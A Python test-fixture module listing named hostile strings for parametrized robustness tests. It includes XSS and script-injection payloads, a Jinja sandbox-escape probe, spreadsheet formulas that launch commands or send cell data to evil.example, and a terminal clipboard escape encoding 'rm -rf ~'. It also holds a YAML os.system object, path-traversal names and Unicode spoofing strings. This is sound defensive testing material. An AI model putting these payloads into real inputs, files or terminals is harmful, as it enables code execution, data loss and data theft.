"""Strings that have broken programs before, each by name: what stands in words, labels, ids, names and paths of hostile data.

A script among them that runs sets `window.__hit`. `PAYLOADS` has all; `SETTABLE` those a settings file may hold (no NUL, no half
of a surrogate pair), `FILE_NAMES` those that can be the name of one file here, `SHORT` those worth typing into a command.
"""

from typing import NamedTuple

RUN = "window.__hit=1"
LONGEST_NAME = 200  # bytes of a file name, with room for what is put before and behind it


class Payload(NamedTuple):
    """One string under the name that tests print."""

    name: str
    text: str


_MARKUP = {
    "image with a handler": f"<img src=x onerror={RUN}>",
    "svg with a handler": f"<svg/onload={RUN}>",
    "script": f"<script>{RUN}</script>",
    "end of the script": f"</script><script>{RUN}</script>",
    "end of the script, mixed case": f"</ScRiPt ><sCrIpT>{RUN}</ScRiPt >",
    "end of style and title": f"</style></title></textarea></svg><script>{RUN}</script>",
    "open comment": "<!--",
    "comment and script": "<!--<script>",
    "end of a comment": f"--><script>{RUN}</script><!--",
    "cdata": f"]]><script>{RUN}</script>",
    "double quotes and a handler": f'" onmouseover={RUN} autofocus onfocus={RUN} x="',
    "single quotes and a handler": f"' onmouseover={RUN} autofocus onfocus={RUN} x='",
    "backticks and a handler": f"` onmouseover={RUN} x=`",
    "base and meta": "<base href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example>",
    "frame": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "form": f"<form action=javascript:{RUN}><input type=submit id=main name=attributes>",
    "link": f"<a href=javascript:{RUN} id=explorer>x</a>",
    "style that loads": "<style>@import '//evil.example/x.css';*{background:url(//evil.example/y)}</style>",
    "css value": "red;background:url(//evil.example/z)}body{display:none",
    "numbered characters": "&lt;script&gt;&#60;b&#x3e;&amp;amp;",
    "double escape": "&amp;lt;img src=x onerror=window.__hit=1&amp;gt;",
    "javascript address": f"javascript:{RUN}",
    "data address": f"data:text/html,<script>{RUN}</script>",
    "template literal": f"${{{RUN}}}",
    "javascript string": f'\\";{RUN};//\\u003cscript\\u003e',
    "prototype": "__proto__",
    "constructor": "constructor",
}
_TEMPLATES = {
    "jinja expression": "{{7*7}}",
    "jinja statement": "{% include 'page.html.j2' %}{% raw %}",
    "jinja comment": "{# gone #}",
    "jinja way out": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "format fields": "{0.__class__} %s %n %(x)s {text} {}",
    "rich markup": "[bold red]x[/] [link=https://evil.example]y[/link]",
    "math": "$\\frac{1}{0}$ $x_ \\input{/etc/passwd}",
}
_CHARACTERS = {
    "line separator": f"a\u2028{RUN}//",
    "paragraph separator": f"a\u2029{RUN}//",
    "next line": "a\x85b",
    "line ends": "one\ntwo\r\nthree\rfour",
    "right to left override": "\u202egnp.exe",
    "right to left marks": "\u200f\u061c\u2067a\u2066b",
    "open isolates": "\u2066" * 40 + "x",
    "byte order mark": "\ufeffx",
    "zero width": "a\u200b\u200d\u2060b",
    "nul": "a\0b",
    "control characters": "".join(map(chr, range(1, 32))) + "\x7f",
    "upper control characters": "".join(map(chr, range(0x80, 0xA0))),
    "lone surrogate": "a\ud800b",
    "wrong pair": "\udfff\ud800",
    "not a character": "a\ufffe\uffff\U0010ffffb",
    "marks without end": "e" + "\u0301" * 300,
    "tag characters": "x" + "".join(chr(0xE0000 + ord(c)) for c in "hidden"),
    "looks like latin": "sаfеtеnsоrs",
    "wide": "漢字" * 20,
    "nothing": "",
    "blank": " \t ",
    "one megabyte": "x" * (1 << 20),
    "one megabyte of brackets": "<" * (1 << 20),
}
_TERMINAL = {
    "colour": "\x1b[31mred",
    "clear and home": "\x1b[2J\x1b[H",
    "window title": "\x1b]0;owned\x07",
    "link of a terminal": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "answerback": '\x1b[c\x1b[6n\x1bP$q"p\x1b\\',
    "upper csi": "\x9b31mred\x9d0;owned\x9c",
    "bell": "\x07\x07",
    "backspaces": "good\x08\x08\x08\x08evil",
    "carriage return": "good news\rinterplay: all is well",
    "second line": "x\ninterplay: all is well",
}
_CELLS = {
    "formula": "=1+1",
    "formula that runs": "=cmd|'/C calc'!A0",
    "formula that links": '=HYPERLINK("https://evil.example?"&A1,"x")',
    "plus": "+1+cmd|'/C calc'!A0",
    "minus": "-1+cmd|'/C calc'!A0",
    "at": "@SUM(1+1)",
    "tab before a formula": "\t=1+1",
    "return before a formula": "\r=1+1",
    "newline before a formula": "\n=1+1",
    "space before a formula": " =1+1",
    "wide formula": "\uff1d1+1",
    "no width before a formula": "\ufeff\u200b=1+1",
    "formula behind a return": "a\r=1+1",
    "formula behind a line": 'a"\n=1+1,"',
    "quoted formula": '"=1+1"',
    "apostrophe": "'=1+1",
    "separators": '"a",b;c\td|e',
}
_PATHS = {
    "parents": "../../x",
    "parents of windows": "..\\..\\x",
    "absolute": "/etc/passwd",
    "absolute on windows": "C:\\Windows\\win.ini",
    "share": "\\\\evil.example\\share",
    "dots": "..",
    "dot": ".",
    "hidden": ".bashrc",
    "device": "CON",
    "device with an ending": "nul.txt",
    "stream": "a.txt:evil",
    "option": "--help",
    "option with a value": "-o/etc/x",
    "home": "~/x",
    "home of nobody": "~nobody-is-here/x",
    "variables": "$HOME %PATH% `id` $(id)",
    "wild cards": "*?[a-z]",
    "ends in a dot": "x. ",
    "temporary": ".lock.tmp",
    "manifest": "manifest.json",
    "too long for a name": "n" * 300,
    "address": "https://evil.example/x",
    "file address": "file:///etc/passwd",
}
_MARKDOWN = {
    "link of markdown": "[x](javascript:window.__hit=1)",
    "image of markdown": "![x](https://evil.example/x.png)",
    "reference": "[x]: https://evil.example 'x'",
    "bare address": "www.evil.example https://evil.example me@evil.example",
    "code": "`a` ``b`` ```c",
    "cells": "a|b|c",
    "heading": "# heading",
    "front matter": "---\ntitle: x\n---",
    "end of our section": "<!-- interplay: training dynamics end -->",
    "emphasis": "*a* _b_ ~~c~~ **d**",
    "list": "- a\n- b",
}
_SETTINGS = {
    "python object": "!!python/object/apply:os.system ['true']",
    "alias": "&a [*a, *a]",
    "merge key": "<<: *a",
    "no": "no",
    "null": "null",
    "number": "1e3",
    "not a number": "NaN",
    "infinite": "-Infinity",
    "mapping": "{a: b}",
    "document": "---\n...\n",
    "comment of yaml": "a # b",
    "json": '{"step": 1}',
}


def _all() -> tuple[Payload, ...]:
    groups = (_MARKUP, _TEMPLATES, _CHARACTERS, _TERMINAL, _CELLS, _PATHS, _MARKDOWN, _SETTINGS)
    return tuple(Payload(name, text) for group in groups for name, text in group.items())


def _settable(text: str) -> bool:
    return "\0" not in text and not any("\ud800" <= c <= "\udfff" for c in text)


def _file_name(text: str) -> bool:
    fits = _settable(text) and len(text.encode()) <= LONGEST_NAME
    return fits and "/" not in text and text not in ("", ".", "..")


PAYLOADS = _all()
SETTABLE = tuple(p for p in PAYLOADS if _settable(p.text))
FILE_NAMES = tuple(p for p in PAYLOADS if _file_name(p.text))
SHORT = tuple(p for p in SETTABLE if p.text and len(p.text) < 1000)


def ids(payload: Payload) -> str:
    """For `pytest.mark.parametrize(..., ids=ids)`."""
    return payload.name


def controls(text: str, allowed: str = "\n") -> list[str]:
    """The characters of a text that could command a terminal or turn what is read: everything that is not printable.

    >>> controls("a\\x1b[31mb\\n"), controls("plain é 漢\\n")
    (['\\x1b'], [])
    """
    return [c for c in text if not c.isprintable() and c not in allowed]
